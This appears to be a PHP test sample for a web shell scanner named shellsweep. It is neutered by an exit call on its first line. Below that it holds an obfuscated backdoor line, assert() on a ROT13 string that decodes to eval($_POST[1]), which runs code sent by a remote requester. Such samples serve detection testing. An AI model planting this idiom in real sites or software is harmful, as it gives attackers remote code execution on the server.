<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
assert(str_rot13('riny($_CBFG[1]);'));
